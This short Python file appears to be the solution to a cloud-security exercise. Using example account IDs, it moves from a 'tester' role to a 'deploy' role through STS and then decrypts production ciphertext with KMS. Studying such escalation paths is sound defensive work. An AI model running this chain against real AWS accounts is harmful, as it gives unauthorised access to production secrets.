"""The way from the tester to the production settings. Run as the role `tester`, which may assume `deploy`."""

KEY = "arn:aws:kms:us-east-1:111122223333:key/7b6a5948-1700-4d3c-8b2a-000000000171"
DEPLOY = "arn:aws:iam::111122223333:role/deploy"


def attack(client, ciphertext, context):
    """Return the plaintext of `ciphertext`, which was sealed under KEY with the encryption context `context`.

    `client("sts")` gives a boto3 client as the tester; `client("kms", credentials)` one with the "Credentials" that
    STS gave out. At most three calls.
    """
    session = client("sts").assume_role(RoleArn=DEPLOY, RoleSessionName="prod")
    kms = client("kms", session["Credentials"])
    return kms.decrypt(KeyId=KEY, CiphertextBlob=ciphertext, EncryptionContext=context)["Plaintext"]
